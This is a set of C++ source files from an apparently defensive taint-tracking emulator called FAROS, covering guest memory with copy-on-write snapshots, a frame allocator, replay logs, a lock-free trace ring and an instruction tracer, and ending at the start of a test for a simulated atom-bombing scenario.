  return Err<PAddr>("out of physical frames");
}

Result<void> FrameAllocator::alloc_many(u32 n, std::vector<PAddr>& out) {
  if (free_count_ < n) return Err<void>("out of physical frames");
  for (u32 i = 0; i < n; ++i) {
    auto r = alloc();
    if (!r.ok()) return Err<void>(r.error().message);
    out.push_back(r.value());
  }
  return Ok();
}

void FrameAllocator::free(PAddr frame_base) {
  u32 idx = static_cast<u32>(frame_base >> kPageShift);
  assert(idx < used_.size() && used_[idx]);
  used_[idx] = false;
  ++free_count_;
  if (idx < search_hint_) search_hint_ = idx;
  if (on_free_) on_free_(frame_base);
}

void FrameAllocator::reserve(PAddr frame_base) {
  u32 idx = static_cast<u32>(frame_base >> kPageShift);
  assert(idx < used_.size());
  if (!used_[idx]) {
    used_[idx] = true;
    --free_count_;
  }
}

}  // namespace faros::vm
