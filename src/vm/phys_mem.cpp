#include "vm/phys_mem.h"

#include <cassert>
#include <cstring>

#include "common/strings.h"

namespace faros::vm {

PhysMem::PhysMem(u32 size_bytes)
    : ram_(page_ceil(size_bytes), 0), watched_(num_frames(), 0) {
  assert(size_bytes > 0);
}

void PhysMem::notify_code_write(PAddr pa, u32 len) {
  if (!on_code_write_) return;
  const u64 first = pa >> kPageShift;
  const u64 last = (pa + len - 1) >> kPageShift;
  for (u64 f = first; f <= last; ++f) {
    const u32 w = watched_[f];
    if (!w) continue;
    // Clip the write to this frame and test against the watched range.
    const u32 frame_lo = static_cast<u32>(
        std::max<u64>(pa, f << kPageShift) - (f << kPageShift));
    const u32 frame_hi = static_cast<u32>(
        std::min<u64>(pa + len, (f + 1) << kPageShift) - (f << kPageShift));
    if (frame_lo < (w & 0xffffu) && (w >> 16) < frame_hi) {
      on_code_write_(pa, len);
      return;
    }
  }
}

u8 PhysMem::read8(PAddr pa) const {
  assert(contains(pa, 1));
  return ram_[pa];
}

u16 PhysMem::read16(PAddr pa) const {
  assert(contains(pa, 2));
  return static_cast<u16>(ram_[pa]) | (static_cast<u16>(ram_[pa + 1]) << 8);
}

u32 PhysMem::read32(PAddr pa) const {
  assert(contains(pa, 4));
  return static_cast<u32>(ram_[pa]) | (static_cast<u32>(ram_[pa + 1]) << 8) |
         (static_cast<u32>(ram_[pa + 2]) << 16) |
         (static_cast<u32>(ram_[pa + 3]) << 24);
}

void PhysMem::write8(PAddr pa, u8 v) {
  assert(contains(pa, 1));
  if (watched_[pa >> kPageShift]) notify_code_write(pa, 1);
  ram_[pa] = v;
}

void PhysMem::write16(PAddr pa, u16 v) {
  assert(contains(pa, 2));
  if (watched_[pa >> kPageShift] | watched_[(pa + 1) >> kPageShift]) {
    notify_code_write(pa, 2);
  }
  ram_[pa] = static_cast<u8>(v & 0xff);
  ram_[pa + 1] = static_cast<u8>(v >> 8);
}

void PhysMem::write32(PAddr pa, u32 v) {
  assert(contains(pa, 4));
  if (watched_[pa >> kPageShift] | watched_[(pa + 3) >> kPageShift]) {
    notify_code_write(pa, 4);
  }
  ram_[pa] = static_cast<u8>(v & 0xff);
  ram_[pa + 1] = static_cast<u8>((v >> 8) & 0xff);
  ram_[pa + 2] = static_cast<u8>((v >> 16) & 0xff);
  ram_[pa + 3] = static_cast<u8>((v >> 24) & 0xff);
}

void PhysMem::read(PAddr pa, MutByteSpan out) const {
  assert(contains(pa, static_cast<u32>(out.size())));
  std::memcpy(out.data(), ram_.data() + pa, out.size());
}

void PhysMem::write(PAddr pa, ByteSpan data) {
  assert(contains(pa, static_cast<u32>(data.size())));
  if (!data.empty()) notify_code_write(pa, static_cast<u32>(data.size()));
  std::memcpy(ram_.data() + pa, data.data(), data.size());
}

ByteSpan PhysMem::span(PAddr pa, u32 len) const {
  assert(contains(pa, len));
  return ByteSpan(ram_.data() + pa, len);
}

FrameAllocator::FrameAllocator(u32 num_frames)
    : used_(num_frames, false), free_count_(num_frames) {}

Result<PAddr> FrameAllocator::alloc() {
  if (free_count_ == 0) return Err<PAddr>("out of physical frames");
  for (u32 i = 0; i < used_.size(); ++i) {
    u32 idx = (search_hint_ + i) % used_.size();
    if (!used_[idx]) {
      // Restart the scan from the beginning next time a lower frame is
      // freed; determinism only requires a fixed policy, so lowest-first
      // from hint is fine.
      used_[idx] = true;
      --free_count_;
      search_hint_ = idx + 1;
      return static_cast<PAddr>(idx) << kPageShift;
    }
  }
  return Err<PAddr>("out of physical frames");
}

Result<void> FrameAllocator::alloc_many(u32 n, std::vector<PAddr>& out) {
  if (free_count_ < n) return Err<void>("out of physical frames");
  for (u32 i = 0; i < n; ++i) {
    auto r = alloc();
    if (!r.ok()) return Err<void>(r.error().message);
    out.push_back(r.value());
  }
  return Ok();
}

void FrameAllocator::free(PAddr frame_base) {
  u32 idx = static_cast<u32>(frame_base >> kPageShift);
  assert(idx < used_.size() && used_[idx]);
  used_[idx] = false;
  ++free_count_;
  if (idx < search_hint_) search_hint_ = idx;
  if (on_free_) on_free_(frame_base);
}

void FrameAllocator::reserve(PAddr frame_base) {
  u32 idx = static_cast<u32>(frame_base >> kPageShift);
  assert(idx < used_.size());
  if (!used_[idx]) {
    used_[idx] = true;
    --free_count_;
  }
}

}  // namespace faros::vm
