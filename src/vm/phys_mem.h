// Guest physical memory plus a simple frame allocator. Physical addresses
// are the canonical key for the DIFT shadow memory, exactly as in
// PANDA's taint2.
#pragma once

#include <algorithm>
#include <functional>

#include "common/result.h"
#include "common/types.h"

namespace faros::vm {

inline constexpr u32 kPageSize = 4096;
inline constexpr u32 kPageShift = 12;

constexpr u32 page_floor(u32 addr) { return addr & ~(kPageSize - 1); }
constexpr u32 page_offset(u32 addr) { return addr & (kPageSize - 1); }
constexpr u32 page_ceil(u32 addr) {
  return (addr + kPageSize - 1) & ~(kPageSize - 1);
}

/// Flat guest RAM. All reads/writes are bounds checked; the VM never maps
/// beyond the configured size.
class PhysMem {
 public:
  /// Observer invoked with the written byte range when any byte of a
  /// *watched* frame is written, before the write lands. The block-
  /// translation cache watches frames holding translated code so
  /// self-modifying code evicts stale blocks (and only the blocks the
  /// range actually overlaps — data sharing a page with code must not
  /// thrash the cache); unwatched frames pay one flag load per store.
  using CodeWriteObserver = std::function<void(PAddr pa, u32 len)>;

  explicit PhysMem(u32 size_bytes);

  u32 size() const { return static_cast<u32>(ram_.size()); }
  u32 num_frames() const { return size() / kPageSize; }

  u8 read8(PAddr pa) const;
  u16 read16(PAddr pa) const;
  u32 read32(PAddr pa) const;
  void write8(PAddr pa, u8 v);
  void write16(PAddr pa, u16 v);
  void write32(PAddr pa, u32 v);

  /// Bulk accessors used by the kernel's taint-aware copy primitives.
  void read(PAddr pa, MutByteSpan out) const;
  void write(PAddr pa, ByteSpan data);

  bool contains(PAddr pa, u32 len = 1) const {
    return pa + len <= ram_.size() && pa + len >= pa;
  }

  ByteSpan span(PAddr pa, u32 len) const;

  void set_code_write_observer(CodeWriteObserver obs) {
    on_code_write_ = std::move(obs);
  }

  /// Watches byte offsets [lo, hi) of the frame (hi <= kPageSize). Repeated
  /// calls widen the watched range to the union — it never shrinks until
  /// unwatch_frame. Writes outside the range never fire the observer, so
  /// data sharing a page with translated code costs one compare per store.
  void watch_frame(PAddr frame_base, u32 lo, u32 hi) {
    u32& w = watched_[frame_base >> kPageShift];
    if (w) {
      lo = std::min(lo, w >> 16);
      hi = std::max(hi, w & 0xffffu);
    }
    w = (lo << 16) | hi;
  }
  void unwatch_frame(PAddr frame_base) {
    watched_[frame_base >> kPageShift] = 0;
  }
  bool frame_watched(PAddr frame_base) const {
    return watched_[frame_base >> kPageShift] != 0;
  }

 private:
  /// Out-of-line slow path: fires the observer once with [pa, pa+len) when
  /// the write overlaps at least one frame's watched byte range.
  void notify_code_write(PAddr pa, u32 len);

  Bytes ram_;
  // One packed watch range per frame: 0 = unwatched, else (lo << 16) | hi
  // byte offsets (hi exclusive, <= kPageSize).
  std::vector<u32> watched_;
  CodeWriteObserver on_code_write_;
};

/// Bitmap frame allocator over guest RAM. Deterministic: always returns the
/// lowest free frame, which record/replay depends on.
class FrameAllocator {
 public:
  /// Observer invoked whenever a frame is freed. The FAROS shadow memory
  /// subscribes so stale taint never survives frame recycling.
  using FreeObserver = std::function<void(PAddr frame_base)>;

  explicit FrameAllocator(u32 num_frames);

  void set_free_observer(FreeObserver obs) { on_free_ = std::move(obs); }

  /// Allocates one 4 KiB frame; returns its physical base address.
  Result<PAddr> alloc();
  /// Allocates `n` frames (not necessarily contiguous) into `out`.
  Result<void> alloc_many(u32 n, std::vector<PAddr>& out);
  void free(PAddr frame_base);

  u32 free_frames() const { return free_count_; }
  u32 total_frames() const { return static_cast<u32>(used_.size()); }

  /// Marks a frame as permanently reserved (e.g. frame 0, boot structures).
  void reserve(PAddr frame_base);

 private:
  std::vector<bool> used_;
  u32 free_count_ = 0;
  u32 search_hint_ = 0;
  FreeObserver on_free_;
};

}  // namespace faros::vm
