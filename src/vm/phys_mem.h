// Guest physical memory plus a simple frame allocator. Physical addresses
// are the canonical key for the DIFT shadow memory, exactly as in
// PANDA's taint2.
//
// Two backing modes share one access path (a per-frame pointer table):
//  * owned — flat zeroed RAM, as a cold-booted machine sees it;
//  * copy-on-write clone — every frame initially aliases an immutable
//    MemImage (a frozen post-boot snapshot, see os/snapshot.h); the first
//    write to a frame faults it into private arena storage. Clones never
//    touch the shared image, so any number of farm jobs can run against
//    one booted-guest snapshot concurrently.
#pragma once

#include <algorithm>
#include <functional>
#include <memory>

#include "common/result.h"
#include "common/types.h"

namespace faros::vm {

inline constexpr u32 kPageSize = 4096;
inline constexpr u32 kPageShift = 12;

constexpr u32 page_floor(u32 addr) { return addr & ~(kPageSize - 1); }
constexpr u32 page_offset(u32 addr) { return addr & (kPageSize - 1); }
constexpr u32 page_ceil(u32 addr) {
  return (addr + kPageSize - 1) & ~(kPageSize - 1);
}

/// Immutable frozen RAM image, shared read-only between the snapshot and
/// every clone built over it. Page-aligned; held alive by shared_ptr for
/// as long as any clone exists.
struct MemImage {
  Bytes ram;
  u32 size() const { return static_cast<u32>(ram.size()); }
};

/// Guest RAM. All reads/writes are bounds checked; the VM never maps
/// beyond the configured size.
class PhysMem {
 public:
  /// Observer invoked with the written byte range when any byte of a
  /// *watched* frame is written, before the write lands. The block-
  /// translation cache watches frames holding translated code so
  /// self-modifying code evicts stale blocks (and only the blocks the
  /// range actually overlaps — data sharing a page with code must not
  /// thrash the cache); unwatched frames pay one flag load per store.
  using CodeWriteObserver = std::function<void(PAddr pa, u32 len)>;

  /// Copy-on-write statistics. Plain counters: src/vm keeps no obs
  /// dependency, so the farm folds these into the metrics stream the same
  /// way it folds BlockCacheStats.
  struct CowStats {
    bool cow = false;        // constructed as a snapshot clone
    u64 cow_faults = 0;      // private frame copies on first write
    u64 shared_frames = 0;   // frames still backed by the snapshot image
  };

  /// Owned mode: flat zeroed RAM (cold boot).
  explicit PhysMem(u32 size_bytes);
  /// COW mode: every frame aliases `base` until first write.
  explicit PhysMem(std::shared_ptr<const MemImage> base);

  // rtab_/wtab_ hold raw pointers into ram_ / the arena; a copy would
  // alias another instance's storage. Moves are fine (vector buffers are
  // stable across moves).
  PhysMem(const PhysMem&) = delete;
  PhysMem& operator=(const PhysMem&) = delete;
  PhysMem(PhysMem&&) = default;
  PhysMem& operator=(PhysMem&&) = default;

  u32 size() const { return size_; }
  u32 num_frames() const { return size_ / kPageSize; }

  u8 read8(PAddr pa) const;
  u16 read16(PAddr pa) const;
  u32 read32(PAddr pa) const;
  void write8(PAddr pa, u8 v);
  void write16(PAddr pa, u16 v);
  void write32(PAddr pa, u32 v);

  /// Bulk accessors used by the kernel's taint-aware copy primitives.
  void read(PAddr pa, MutByteSpan out) const;
  void write(PAddr pa, ByteSpan data);

  bool contains(PAddr pa, u32 len = 1) const {
    return pa + len <= size_ && pa + len >= pa;
  }

  /// Zero-copy view of [pa, pa+len). The range must stay within one frame
  /// (frames are not contiguous in COW mode); the only caller is the
  /// instruction decoder, whose 8-byte-aligned fetches never cross.
  ByteSpan span(PAddr pa, u32 len) const;

  /// Materialises the full RAM contents as an immutable image (one copy).
  /// Works in either mode; os::capture_snapshot uses it to freeze a
  /// freshly booted guest.
  std::shared_ptr<const MemImage> freeze() const;

  const CowStats& cow_stats() const { return stats_; }

  void set_code_write_observer(CodeWriteObserver obs) {
    on_code_write_ = std::move(obs);
  }

  /// Watches byte offsets [lo, hi) of the frame (hi <= kPageSize). Repeated
  /// calls widen the watched range to the union — it never shrinks until
  /// unwatch_frame. Writes outside the range never fire the observer, so
  /// data sharing a page with translated code costs one compare per store.
  void watch_frame(PAddr frame_base, u32 lo, u32 hi) {
    u32& w = watched_[frame_base >> kPageShift];
    if (w) {
      lo = std::min(lo, w >> 16);
      hi = std::max(hi, (w & 0xffffu) - 1);
    }
    // hi is stored biased by +1 so no real range packs to the 0
    // "unwatched" sentinel (a watch with lo == 0 has zero high bits, and
    // an unbiased hi could make the whole word 0 — silently dropping an
    // SMC watch on byte 0 of a frame).
    w = (lo << 16) | (hi + 1);
  }
  void unwatch_frame(PAddr frame_base) {
    watched_[frame_base >> kPageShift] = 0;
  }
  bool frame_watched(PAddr frame_base) const {
    return watched_[frame_base >> kPageShift] != 0;
  }

 private:
  /// Out-of-line slow path: fires the observer once with [pa, pa+len) when
  /// the write overlaps at least one frame's watched byte range.
  void notify_code_write(PAddr pa, u32 len);

  /// First write to a shared frame: copy it into private arena storage.
  u8* cow_fault(u64 frame);
  u8* arena_alloc();

  /// Store one byte without the watch check (callers notify once for the
  /// whole access, matching the observer's [pa, pa+len) contract).
  void store8(PAddr pa, u8 v) {
    const u64 f = pa >> kPageShift;
    u8* p = wtab_[f];
    if (!p) p = cow_fault(f);
    p[page_offset(static_cast<u32>(pa))] = v;
  }

  u32 size_ = 0;
  Bytes ram_;  // owned mode backing; empty for COW clones
  std::shared_ptr<const MemImage> base_;  // COW mode backing; null when owned
  // Per-frame pointers: rtab_ is where reads resolve (shared image or
  // private copy); wtab_ is null while the frame is still shared — a write
  // through a null entry takes the COW fault. Owned mode fills both with
  // pointers into ram_, so the hot paths are mode-free.
  std::vector<const u8*> rtab_;
  std::vector<u8*> wtab_;
  // Private frame storage for COW faults, bump-allocated in chunks.
  static constexpr u32 kFramesPerChunk = 64;
  std::vector<std::unique_ptr<u8[]>> arena_;
  u32 arena_used_ = kFramesPerChunk;
  CowStats stats_;
  // One packed watch range per frame: 0 = unwatched, else
  // (lo << 16) | (hi + 1) byte offsets (hi exclusive, <= kPageSize; the +1
  // bias keeps every real range distinct from the sentinel).
  std::vector<u32> watched_;
  CodeWriteObserver on_code_write_;
};

/// Bitmap frame allocator over guest RAM. Deterministic: always returns the
/// lowest free frame, which record/replay depends on.
class FrameAllocator {
 public:
  /// Observer invoked whenever a frame is freed. The FAROS shadow memory
  /// subscribes so stale taint never survives frame recycling.
  using FreeObserver = std::function<void(PAddr frame_base)>;

  /// Value snapshot of the allocator (os/snapshot.h freezes one per boot
  /// image; restore() puts a clone's allocator into the exact post-boot
  /// state so frame allocation stays deterministic vs a cold boot).
  struct State {
    std::vector<bool> used;
    u32 free_count = 0;
    u32 search_hint = 0;
  };

  explicit FrameAllocator(u32 num_frames);

  void set_free_observer(FreeObserver obs) { on_free_ = std::move(obs); }

  /// Allocates one 4 KiB frame; returns its physical base address.
  Result<PAddr> alloc();
  /// Allocates `n` frames (not necessarily contiguous) into `out`.
  Result<void> alloc_many(u32 n, std::vector<PAddr>& out);
  void free(PAddr frame_base);

  u32 free_frames() const { return free_count_; }
  u32 total_frames() const { return static_cast<u32>(used_.size()); }

  /// Marks a frame as permanently reserved (e.g. frame 0, boot structures).
  void reserve(PAddr frame_base);

  State state() const { return State{used_, free_count_, search_hint_}; }
  void restore(const State& s) {
    used_ = s.used;
    free_count_ = s.free_count;
    search_hint_ = s.search_hint;
  }

 private:
  std::vector<bool> used_;
  u32 free_count_ = 0;
  u32 search_hint_ = 0;
  FreeObserver on_free_;
};

}  // namespace faros::vm
