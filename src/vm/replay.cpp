#include "vm/replay.h"

namespace faros::vm {

namespace {
constexpr u32 kMagic = 0x464c4f47;  // "FLOG"
constexpr u32 kVersion = 1;
}  // namespace

Bytes ReplayLog::serialize() const {
  ByteWriter w;
  w.put_u32(kMagic);
  w.put_u32(kVersion);
  w.put_u32(static_cast<u32>(events_.size()));
  for (const ReplayEvent& ev : events_) {
    w.put_u64(ev.instr_index);
    w.put_u8(static_cast<u8>(ev.kind));
    w.put_u32(ev.channel);
    w.put_u32(ev.flow.src_ip);
    w.put_u16(ev.flow.src_port);
    w.put_u32(ev.flow.dst_ip);
    w.put_u16(ev.flow.dst_port);
    w.put_blob(ev.payload);
  }
  return w.take();
}

Result<ReplayLog> ReplayLog::deserialize(ByteSpan data) {
  ByteReader r(data);
  if (r.get_u32() != kMagic) return Err<ReplayLog>("replay: bad magic");
  if (r.get_u32() != kVersion) return Err<ReplayLog>("replay: bad version");
  u32 count = r.get_u32();
  if (!r.ok()) return Err<ReplayLog>("replay: truncated header");
  ReplayLog log;
  for (u32 i = 0; i < count; ++i) {
    ReplayEvent ev;
    ev.instr_index = r.get_u64();
    ev.kind = static_cast<EventKind>(r.get_u8());
    ev.channel = r.get_u32();
    ev.flow.src_ip = r.get_u32();
    ev.flow.src_port = r.get_u16();
    ev.flow.dst_ip = r.get_u32();
    ev.flow.dst_port = r.get_u16();
    ev.payload = r.get_blob();
    if (!r.ok()) return Err<ReplayLog>("replay: truncated log");
    log.append(std::move(ev));
  }
  return log;
}

}  // namespace faros::vm
