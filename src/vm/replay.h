// Deterministic record/replay — PANDA's signature capability and the way
// FAROS is used in practice: record the malware run once, then replay it
// under the (expensive) taint plugin.
//
// The whole machine is deterministic except for external inputs, so the log
// only stores those: each event carries the global retired-instruction index
// at which it was delivered. Replaying the log through an identical initial
// machine reproduces the run bit-for-bit.
#pragma once

#include <vector>

#include "common/bytesio.h"
#include "common/flow.h"
#include "common/result.h"
#include "common/types.h"

namespace faros::vm {

enum class EventKind : u8 {
  kPacketIn = 1,    // network packet arriving at a guest socket
  kDeviceInput = 2, // bytes from a character device (keyboard, mic, screen)
};

struct ReplayEvent {
  u64 instr_index = 0;  // deliver when the global counter reaches this
  EventKind kind = EventKind::kPacketIn;
  u32 channel = 0;      // kPacketIn: destination port; kDeviceInput: device id
  FlowTuple flow;       // valid for kPacketIn
  Bytes payload;

  bool operator==(const ReplayEvent&) const = default;
};

class ReplayLog {
 public:
  void append(ReplayEvent ev) { events_.push_back(std::move(ev)); }
  const std::vector<ReplayEvent>& events() const { return events_; }
  size_t size() const { return events_.size(); }
  bool empty() const { return events_.empty(); }
  void clear() { events_.clear(); }

  Bytes serialize() const;
  static Result<ReplayLog> deserialize(ByteSpan data);

  bool operator==(const ReplayLog&) const = default;

 private:
  std::vector<ReplayEvent> events_;
};

}  // namespace faros::vm
