#include "vm/trace_ring.h"

#include <cstdio>
#include <string>

#include "vm/isa.h"

namespace faros::vm {

const char* dift_event_kind_name(u8 kind) {
  switch (kind) {
    case DiftEvent::kInsn: return "insn";
    case DiftEvent::kBulk: return "bulk";
    case DiftEvent::kWindow: return "window";
    case DiftEvent::kEnd: return "end";
    default: return "?";
  }
}

std::string describe(const DiftEvent& e) {
  std::string out = dift_event_kind_name(e.kind);
  switch (e.kind) {
    case DiftEvent::kInsn: {
      Instruction insn{static_cast<Opcode>(e.op), e.rd, e.rs1, e.rs2, e.imm};
      out += " #" + std::to_string(e.instr_index) + " " + disassemble(insn);
      if (e.flags & DiftEvent::kHasMem) {
        out += (e.flags & DiftEvent::kIsWrite) ? " st@" : " ld@";
        char buf[32];
        std::snprintf(buf, sizeof(buf), "%08x/%llx", e.mem_va,
                      static_cast<unsigned long long>(e.mem_pa));
        out += buf;
      }
      break;
    }
    case DiftEvent::kBulk:
      out += " pa=" + std::to_string(e.mem_pa) +
             " insns=" + std::to_string(e.imm);
      break;
    case DiftEvent::kWindow:
      out += " pc=" + std::to_string(e.pc) +
             " len=" + std::to_string(e.imm);
      break;
    default: break;
  }
  return out;
}

}  // namespace faros::vm
