// Compact DIFT event trace + single-producer/single-consumer ring.
//
// The decoupled pipeline (core/pipeline.h) reproduces the hardware-DIFT
// split in software: the interpreter thread *emits* fixed-width event
// records describing each retired instruction, and a worker thread
// *consumes* them, replaying the stream against shadow memory and the
// rule engine. This header is the wire format and the queue; it knows
// nothing about taint.
//
// Record design. Every record is exactly 64 bytes (one cache line) so the
// ring never splits a record across lines and the producer's store stream
// stays sequential. An instruction record carries everything the consumer
// needs *pre-resolved*: physical addresses for the fetch and for both
// pages a memory access can touch. Resolving on the producer side is what
// makes the consumer address-space-free — it never walks page tables, so
// guest page-table state can keep mutating under the producer while the
// consumer lags arbitrarily far behind.
//
// Ring protocol (SPSC, bounded, blocking):
//  * `produced_`/`consumed_` are free-running u64 slot counters; the
//    depth is their difference, capacity is a power of two.
//  * The producer blocks (spin + yield) when the ring is full —
//    backpressure, never loss. The consumer advances `consumed_` only
//    AFTER it has fully processed a record, so `drain()` returning means
//    the consumer holds no half-applied record: the engine behind it is
//    quiescent and safe to inspect from the producer thread. Every
//    monitor event in the pipeline is such a sync point.
//  * Each side caches the other's counter and refreshes it only on
//    apparent full/empty, so steady-state transfer costs one release
//    store per record per side.
#pragma once

#include <atomic>
#include <cstring>
#include <memory>
#include <string>
#include <thread>

#include "common/types.h"

namespace faros::vm {

/// One fixed-width trace record. Interpretation depends on `kind`.
struct DiftEvent {
  enum Kind : u8 {
    kInsn = 0,         // one retired instruction
    kBulk = 1,         // elided inert block: cr3/mem_pa=start_pa/imm=count
    kWindow = 2,       // code-window header; `imm` raw payload slots follow
    kEnd = 3,          // producer shutdown sentinel
  };
  enum Flags : u8 {
    kHasMem = 1 << 0,       // mem_* fields valid
    kIsWrite = 1 << 1,      // memory access is a store
    kCrossesPage = 1 << 2,  // access straddles a page; mem_pa2 valid
    kPageExec = 1 << 3,     // store target page had PTE exec (pre-resolved)
  };

  u64 instr_index = 0;  // kInsn: retirement index; kWindow: code_base va
  u64 cr3 = 0;
  u64 pc_pa = 0;        // physical address of the fetched instruction
  u64 mem_pa = 0;       // kInsn: first byte's pa; kBulk: block start_pa
  u64 mem_pa2 = 0;      // pa of the first byte on the second page (kCrossesPage)
  u32 pc = 0;
  u32 mem_va = 0;
  u32 imm = 0;          // kInsn: insn immediate; kBulk: insn count;
                        // kWindow: payload byte length
  u8 op = 0;            // vm::Opcode
  u8 rd = 0, rs1 = 0, rs2 = 0;
  u8 mem_size = 0;
  u8 flags = 0;
  u8 kind = kInsn;
  u8 pad_ = 0;
};
static_assert(sizeof(DiftEvent) == 64, "one record per cache line");

/// Producer-side counters (read after the consumer thread joined, or from
/// the producer thread itself). Plain integers: src/vm keeps zero obs
/// dependency; the pipeline folds them into the metrics stream.
struct TraceRingStats {
  u64 records = 0;          // slots pushed (incl. window payload slots)
  u64 producer_stalls = 0;  // yield loops while the ring was full
  u64 consumer_waits = 0;   // yield loops while the ring was empty
  u64 max_depth = 0;        // high-water slot occupancy seen by the producer
};

class TraceRing {
 public:
  /// `capacity` is rounded up to a power of two, minimum 8 slots.
  explicit TraceRing(size_t capacity = kDefaultCapacity) {
    size_t cap = 8;
    while (cap < capacity) cap <<= 1;
    cap_ = cap;
    mask_ = cap - 1;
    slots_ = std::make_unique<DiftEvent[]>(cap_);
  }

  TraceRing(const TraceRing&) = delete;
  TraceRing& operator=(const TraceRing&) = delete;

  size_t capacity() const { return cap_; }

  // --- producer side ---

  /// Appends a record; blocks (spin + yield) while the ring is full.
  void push(const DiftEvent& e) {
    const u64 p = produced_.load(std::memory_order_relaxed);
    while (p - cached_consumed_ == cap_) {
      cached_consumed_ = consumed_.load(std::memory_order_acquire);
      if (p - cached_consumed_ == cap_) {
        ++stats_.producer_stalls;
        std::this_thread::yield();
      }
    }
    slots_[p & mask_] = e;
    produced_.store(p + 1, std::memory_order_release);
    ++stats_.records;
    const u64 depth = p + 1 - cached_consumed_;
    if (depth > stats_.max_depth) stats_.max_depth = depth;
  }

  /// Blocks until the consumer has processed every pushed record. On
  /// return the consumer thread is not holding any record (it advances
  /// `consumed_` only after finishing one), so state it mutates is safe
  /// to touch from the caller until more records are pushed.
  void drain() {
    const u64 p = produced_.load(std::memory_order_relaxed);
    while (consumed_.load(std::memory_order_acquire) != p) {
      std::this_thread::yield();
    }
    cached_consumed_ = p;
  }

  // --- consumer side ---

  /// Oldest unconsumed record, or nullptr when the ring is empty. Does
  /// not advance; call `pop_front()` after the record is fully processed.
  ///
  /// Issues prefetches for the next few produced slots: each slot line
  /// was written by the producer core moments ago, so the consumer's
  /// first touch is a cross-core transfer (~an L2 miss). Prefetching
  /// while the caller processes the current record hides that latency.
  const DiftEvent* front() {
    const u64 c = consumed_.load(std::memory_order_relaxed);
    if (c == cached_produced_) {
      cached_produced_ = produced_.load(std::memory_order_acquire);
      if (c == cached_produced_) return nullptr;
    }
#if defined(__GNUC__) || defined(__clang__)
    const u64 ahead = cached_produced_ - c;
    for (u64 k = 1; k < (ahead < 4 ? ahead : 4); ++k) {
      __builtin_prefetch(&slots_[(c + k) & mask_], 0, 3);
    }
#endif
    return &slots_[c & mask_];
  }

  /// Blocking front(): yields until a record is available.
  const DiftEvent* front_wait() {
    const DiftEvent* e = front();
    while (!e) {
      ++consumer_waits_;
      std::this_thread::yield();
      e = front();
    }
    return e;
  }

  /// Releases the record returned by front(). Publishing this is what
  /// lets the producer's drain()/push() make progress — only call it
  /// once all side effects of processing the record have landed.
  void pop_front() {
    const u64 c = consumed_.load(std::memory_order_relaxed);
    consumed_.store(c + 1, std::memory_order_release);
  }

  /// Producer-side stats, plus the consumer-wait count. Only meaningful
  /// once the consumer thread has joined (or from a quiesced ring).
  TraceRingStats stats() const {
    TraceRingStats s = stats_;
    s.consumer_waits = consumer_waits_;
    return s;
  }

  static constexpr size_t kDefaultCapacity = 1u << 14;  // 1 MiB of slots

 private:
  size_t cap_ = 0;
  size_t mask_ = 0;
  std::unique_ptr<DiftEvent[]> slots_;

  // Producer-owned line: produced counter + cached view of consumed.
  alignas(64) std::atomic<u64> produced_{0};
  u64 cached_consumed_ = 0;
  TraceRingStats stats_;

  // Consumer-owned line.
  alignas(64) std::atomic<u64> consumed_{0};
  u64 cached_produced_ = 0;
  u64 consumer_waits_ = 0;
};

/// Human-readable record kind / record dump (trace_ring.cpp), for tests
/// and debugging.
const char* dift_event_kind_name(u8 kind);
std::string describe(const DiftEvent& e);

}  // namespace faros::vm
