#include "vm/tracer.h"

#include "common/strings.h"

namespace faros::vm {

std::string Tracer::dump(size_t last_n) const {
  std::string out;
  size_t start = ring_.size() > last_n ? ring_.size() - last_n : 0;
  for (size_t i = start; i < ring_.size(); ++i) {
    const Entry& e = ring_[i];
    out += strf("#%-8llu cr3=%s %s  %s",
                static_cast<unsigned long long>(e.instr_index),
                hex64(e.cr3).c_str(), hex32(e.pc).c_str(),
                disassemble(e.insn).c_str());
    if (e.has_mem) {
      out += strf("   ; %s %s", e.mem_write ? "write" : "read",
                  hex32(e.mem_va).c_str());
    }
    out += '\n';
  }
  return out;
}

}  // namespace faros::vm
