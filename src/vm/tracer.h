// Execution tracer: an ExecHooks plugin keeping a ring buffer of retired
// instructions (disassembled on demand) and per-address-space counters.
// Chains to a downstream plugin so it can ride along with the FAROS engine
// — the reverse engineer's "what executed around the finding" view.
#pragma once

#include <deque>
#include <string>
#include <unordered_map>

#include "vm/cpu.h"

namespace faros::vm {

class Tracer : public ExecHooks {
 public:
  struct Entry {
    u64 instr_index = 0;
    PAddr cr3 = 0;
    VAddr pc = 0;
    Instruction insn;
    bool has_mem = false;
    VAddr mem_va = 0;
    bool mem_write = false;
  };

  explicit Tracer(size_t capacity = 4096) : capacity_(capacity) {}

  /// Downstream plugin invoked after recording (e.g. the FAROS engine).
  void chain(ExecHooks* next) { next_ = next; }

  void on_block_begin(PAddr cr3, VAddr pc) override {
    ++blocks_;
    if (next_) next_->on_block_begin(cr3, pc);
  }

  void on_insn_retired(const InsnEvent& ev, const AddressSpace& as) override {
    Entry e;
    e.instr_index = ev.instr_index;
    e.cr3 = ev.cr3;
    e.pc = ev.pc;
    e.insn = ev.insn;
    if (ev.mem) {
      e.has_mem = true;
      e.mem_va = ev.mem->va;
      e.mem_write = ev.mem->is_write;
    }
    ring_.push_back(e);
    if (ring_.size() > capacity_) ring_.pop_front();
    ++total_;
    ++per_space_[ev.cr3];
    if (next_) next_->on_insn_retired(ev, as);
  }

  const std::deque<Entry>& entries() const { return ring_; }
  u64 total() const { return total_; }
  u64 blocks() const { return blocks_; }
  size_t capacity() const { return capacity_; }

  /// Instructions retired in the address space identified by `cr3`.
  u64 count_for(PAddr cr3) const {
    auto it = per_space_.find(cr3);
    return it == per_space_.end() ? 0 : it->second;
  }

  /// Disassembled dump of the most recent `last_n` entries.
  std::string dump(size_t last_n = 32) const;

  void clear() {
    ring_.clear();
    per_space_.clear();
    total_ = 0;
    blocks_ = 0;
  }

 private:
  size_t capacity_;
  ExecHooks* next_ = nullptr;
  std::deque<Entry> ring_;
  std::unordered_map<PAddr, u64> per_space_;
  u64 total_ = 0;
  u64 blocks_ = 0;
};

}  // namespace faros::vm
