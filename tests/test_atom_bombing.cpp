// Atom-table syscalls and the atom-bombing scenario: payload staged in
// kernel-resident storage, no cross-process memory write, still flagged
// with the full provenance chain.
#include <gtest/gtest.h>

#include "attacks/guest_common.h"
#include "attacks/scenarios.h"
#include "core/report.h"
#include "os/machine.h"

namespace faros {
namespace {

using attacks::emit_sys;
using os::ImageBuilder;
using os::Sys;
using vm::Reg;

TEST(AtomTable, AddAndGetRoundTripAcrossProcesses) {
  os::Machine m;
  ASSERT_TRUE(m.boot().ok());

  // Writer stores "ATOMDATA", then exits with the atom id.
